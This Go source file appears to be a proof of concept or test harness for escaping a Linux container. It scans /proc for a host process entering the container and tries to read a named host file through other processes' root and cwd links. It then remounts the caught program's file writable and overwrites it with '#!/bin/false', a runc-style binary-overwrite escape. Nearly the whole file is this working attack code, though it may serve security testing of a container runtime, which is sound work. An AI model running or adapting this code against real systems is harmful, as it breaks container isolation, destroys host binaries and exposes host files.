package main

import (
	"fmt"
	"os"
	"strconv"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// exe says what a program file, given by a path below /proc, would let an
// attacker do: open it for writing, and its seals if it is a memfd.
func exe(paths []string) {
	for _, path := range paths {
		_, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		show(err, "write", path)
		fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			show(err, "read", path)
			continue
		}
		seals, err := unix.FcntlInt(uintptr(fd), unix.F_GET_SEALS, 0)
		if err != nil {
			show(err, "seals", path)
			continue
		}
		fmt.Printf("seals %s %#x\n", path, seals)
	}
}

// catch waits until a process appears that does not run a program of this image,
// keeps its program's file, waits until it can be written to, and overwrites it.
// Meanwhile it looks for a file of the host, named by the first argument, through
// every process.
func catch(args []string) {
	mine := map[[2]uint64]bool{}
	for _, path := range []string{"/proc/self/exe", "/bin/busybox"} {
		mine[identity(path)] = true
	}
	fmt.Println("waiting")
	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); {
		for _, pid := range processes() {
			dir := "/proc/" + pid
			for _, in := range []string{"/root", "/cwd"} {
				if b, err := os.ReadFile(dir + in + args[0]); err == nil {
					fmt.Printf("FOUND through %s%s: %s\n", pid, in, b)
					os.Exit(0)
				}
			}
			fd, err := unix.Open(dir+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			if id := identity("/proc/self/fd/" + strconv.Itoa(fd)); id != [2]uint64{} && !mine[id] {
				fmt.Println("caught the program of", pid)
				overwrite(fd)
				return
			}
			unix.Close(fd)
		}
	}
	fmt.Println("caught nothing")
}

func processes() (pids []string) {
	d, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	defer d.Close()
	names, _ := d.Readdirnames(-1)
	for _, n := range names {
		if n[0] >= '1' && n[0] <= '9' {
			pids = append(pids, n)
		}
	}
	return pids
}

func identity(path string) [2]uint64 {
	var st unix.Stat_t
	if unix.Stat(path, &st) != nil {
		return [2]uint64{}
	}
	return [2]uint64{st.Dev, st.Ino}
}

// overwrite destroys the file behind an O_PATH descriptor once nobody executes
// it any more. First it tries to make its mount writable.
func overwrite(fd int) {
	attr := unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
	show(unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, &attr), "make writable")
	tree, err := unix.OpenTree(fd, "", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC|unix.AT_EMPTY_PATH)
	show(err, "copy the mount")
	if err == nil {
		show(unix.MountSetattr(tree, "", unix.AT_EMPTY_PATH, &attr), "make the copy writable")
		fd = tree
	}
	_, _, errno := unix.Syscall(unix.SYS_FCHMODAT2, uintptr(fd), uintptr(unsafe.Pointer(&[]byte{0}[0])), 0o777)
	_ = errno // a file of the attacker's own uid needs no chmod
	path := "/proc/self/fd/" + strconv.Itoa(fd)
	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); time.Sleep(time.Millisecond) {
		w, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == unix.ETXTBSY {
			continue
		}
		show(err, "open for writing")
		if err == nil {
			_, err = unix.Write(w, []byte("#!/bin/false\n"))
			show(err, "OVERWRITE")
		}
		return
	}
	fmt.Println("busy")
}
